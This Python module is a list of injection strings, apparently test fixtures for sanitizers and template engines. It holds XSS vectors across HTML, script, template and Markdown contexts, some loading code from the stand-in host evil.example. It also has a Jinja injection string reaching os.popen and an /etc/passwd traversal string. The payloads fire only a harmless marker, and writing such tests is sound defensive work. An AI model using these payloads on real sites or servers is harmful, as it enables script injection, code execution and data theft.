"""Strings that would run, load or break something if a page, feed, map or template took them at their word.

All call `pwned()`, ask `https://evil.example`, or compute 7 * 7 * 1033. Ideas from public suites, written anew.
"""

from __future__ import annotations

#: Computed by a template language that took a string for its own.
COMPUTED = "50617"
_SUM = "7*7*1033"

HTML = """
<script>pwned()</script>
<ScRiPt>pwned()</sCrIpT>
<script src=https://evil.example/x.js></script>
<script/src="//evil.example/x.js"></script>
<scr<script>ipt>pwned()</script>
<<script>pwned()//<</script>
<script>pwned()
</script><script>pwned()</script>
</title><script>pwned()</script>
</style><script>pwned()</script>
</textarea><script>pwned()</script>
</template><script>pwned()</script>
--><script>pwned()</script><!--
<!--><script>pwned()</script>-->
<!--[if gte IE 4]><script>pwned()</script><![endif]-->
]]><script>pwned()</script>
<![CDATA[<script>pwned()</script>]]>
<?xml version="1.0"?><script>pwned()</script>
<img src=x onerror=pwned()>
<img src=x onerror="pwned()">
<img src='x' onerror='pwned()'>
<img/src=x/onerror=pwned()>
<img src=x:x onerror=pwned()//
<img src=x onerror=pwned(1)><b
<IMG SRC=x OnErRoR=pwned()>
<img src=https://evil.example/x.png>
<img srcset="https://evil.example/x.png 1x">
<image src=x onerror=pwned()>
<svg onload=pwned()>
<svg/onload=pwned()//
<svg><script>pwned()</script></svg>
<svg><script href=data:,pwned() />
<svg><animate onbegin=pwned() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=pwned()>
<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x"/>
<svg><foreignObject><iframe onload=pwned()></iframe></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
<math href="javascript:pwned()">x</math>
<math><mi//xlink:href="data:x,<script>pwned()</script>">
<svg></p><style><a id="</style><img src=1 onerror=pwned()>">
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
<a href="javascript:pwned()">x</a>
<a href="&#106;avascript:pwned()">x</a>
<a href="java&#x09;script:pwned()">x</a>
<a href=" javascript:pwned()">x</a>
<a href="data:text/html,<script>pwned()</script>">x</a>
<a onmouseover=pwned() href=#>x</a>
<a autofocus onfocus=pwned() tabindex=1 href=#>x</a>
<a href=https://evil.example target=_blank rel=opener>x</a>
<a href="//evil.example" ping="https://evil.example">x</a>
<body onload=pwned()>
<body onpageshow=pwned()>
<iframe src=javascript:pwned()></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<iframe src=https://evil.example></iframe>
<object data=javascript:pwned()></object>
<embed src=https://evil.example/x.swf>
<video src=x onerror=pwned()></video>
<video><source onerror=pwned()></video>
<audio src=x onerror=pwned()>
<input autofocus onfocus=pwned()>
<select autofocus onfocus=pwned()>
<textarea autofocus onfocus=pwned()>
<button formaction=javascript:pwned()>x</button>
<form action=https://evil.example><input type=submit></form>
<details open ontoggle=pwned()>x</details>
<marquee onstart=pwned()>x</marquee>
<keygen autofocus onfocus=pwned()>
<meta http-equiv=refresh content="0;url=javascript:pwned()">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=script href=https://evil.example/x.js>
<base href=https://evil.example/>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/x)}</style>
<p style="background:url(https://evil.example/x)">x</p>
<p style="position:fixed;inset:0">x</p>
<table background=https://evil.example/x><tr><td>x</table>
<template shadowrootmode=open><script>pwned()</script></template>
<div id=page_main class=masthead>x</div>
<form class=choose data-noun=x><select name=actor></select></form>
<p data-module=theme data-pin=ondo-spring data-place=ondo-spring>x</p>
<figure class=map data-script=https://evil.example/x.js data-leaflet-js=//evil.example/x.js>x</figure>
<x onclick=pwned() autofocus tabindex=0 onfocus=pwned()>x</x>
<custom-element onanimationstart=pwned() style="animation:x 1s">
<xmp><img src=x onerror=pwned()></xmp>
<plaintext><script>pwned()</script>
<listing>&lt;img src=x onerror=pwned()&gt;</listing>
<noembed><img src=x onerror=pwned()></noembed>
<b><b><b><b><b><b><i></b></b><img src=x onerror=pwned()>
" onmouseover="pwned()" x="
' onmouseover='pwned()' x='
" autofocus onfocus="pwned()
"><script>pwned()</script>
'><script>pwned()</script>
"/><img src=x onerror=pwned()>
\\"><img src=x onerror=pwned()>
` onmouseover=pwned() `
=pwned() x=
&lt;script&gt;pwned()&lt;/script&gt;
&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;
&#60;script&#62;pwned()&#60;/script&#62;
&#x3C;img src=x onerror=pwned()&#x3E;
&#0000060script&#0000062pwned()&#0000060/script&#0000062
%3Cscript%3Epwned()%3C/script%3E
\\u003cscript\\u003epwned()\\u003c/script\\u003e
\\x3cimg src=x onerror=pwned()\\x3e
+ADw-script+AD4-pwned()+ADw-/script+AD4-
＜script＞pwned()＜/script＞
‹script›pwned()‹/script›
ʺ onmouseover=pwned()ʺ
<ſcript>pwned()</ſcript>
<img src=x onerror=pwned()
<img src="x" onerror="pwned()" alt=">">
<a href="https://a.example" onclick="pwned()">x</a>
"""
SCRIPT = r"""
${pwned()}
`${pwned()}`
\`${pwned()}
\\`+pwned()+`
';pwned();//
";pwned();//
\';pwned();//
\";pwned();//
'-pwned()-'
"-pwned()-"
"+pwned()+"
pwned()
</script><img src=x onerror=pwned()>
<!--<script>
*/pwned()/*
//pwned()
{"x":"</script><script>pwned()</script>"}
"}],"@graph":[{"@type":"WebSite"}]}</script><script>pwned()</script>
__proto__
constructor.constructor('pwned()')()
javascript:pwned()
JaVaScRiPt:pwned()
vbscript:pwned
data:text/html,<script>pwned()</script>
data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+
//evil.example/x
https://evil.example/x
\\evil.example\x
/\evil.example
"""
TEMPLATES = f"""
{{{{ {_SUM} }}}}
{{{{{_SUM}}}}}
{{% print {_SUM} %}}
{{% if true %}}{{{{ {_SUM} }}}}{{% endif %}}
{{% raw %}}{{{{ {_SUM} }}}}{{% endraw %}}
{{# comment #}}{{{{ {_SUM} }}}}
{{{{ cycler.__init__.__globals__.os.popen('echo {_SUM}').read() }}}}
{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}
{{{{ self._TemplateReference__context }}}}
{{{{ site }}}} {{{{ page.root }}}} {{{{ config }}}}
{{% include "base.html" %}}
{{% macro script(this, kwargs) %}}pwned();{{% endmacro %}}
{{{{ this.get_name() }}}}
{{{{{{ {_SUM} }}}}}}
{{%- set x = {_SUM} -%}}{{{{ x }}}}
${{{_SUM}}}
#{{{_SUM}}}
*{{{_SUM}}}
<%= {_SUM} %>
@({_SUM})
[[{_SUM}]]
%(title)s %s %d {{0}} {{title}} {{}}
{{filename}}/../../etc/passwd
{{static}}x {{attach}}x |filename|x
{{{{ '' | safe }}}} {{{{ "<script>pwned()</script>" | safe }}}}
"""
MARKDOWN = """
[x](javascript:pwned())
[x](JaVaScRiPt:pwned())
[x](javascript&colon;pwned())
[x](javascript&#58;pwned())
[x](&#x6A;avascript:pwned())
[x](java\tscript:pwned())
[x](<javascript:pwned()>)
[x]( javascript:pwned() )
[x](vbscript:pwned())
[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)
[x](//evil.example)
[x](\\\\\\\\evil.example)
[x](/\\\\evil.example)
[x](https:evil.example)
[x](http://evil.example"onmouseover="pwned())
[x](https://evil.example 'x" onmouseover="pwned()')
[x](https://evil.example "onmouseover=pwned()")
![x](javascript:pwned())
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](x" onerror="pwned())
![x" onerror="pwned()](../images/basin.png)
![x](data:image/svg+xml,<svg onload=pwned()>)
![${pwned()}](../images/basin.png "x' onerror='pwned()")
<javascript:pwned()>
<https://evil.example/"onmouseover="pwned()">
<pwned@evil.example>
[x]: javascript:pwned()
[x][y] [y]: javascript:pwned()
[<img src=x onerror=pwned()>](https://a.example)
[x](https://a.example){onclick=pwned() .masthead #page_main}
# x {onclick=pwned()}
`<script>pwned()</script>`
**<script>pwned()</script>**
~~<img src=x onerror=pwned()>~~
| <script>pwned()</script> | x |
> <script>pwned()</script>
- <script>pwned()</script>
[@"><script>pwned()</script>, ¶1]
[@us](javascript:pwned())
[^1]: <script>pwned()</script>
http://evil.example/<script>pwned()</script>
www.evil.example
"""

#: Every string once, in order.
ALL = tuple(
    dict.fromkeys(
        line for block in (HTML, SCRIPT, TEMPLATES, MARKDOWN) for line in block.strip("\n").split("\n") if line.strip()
    )
)
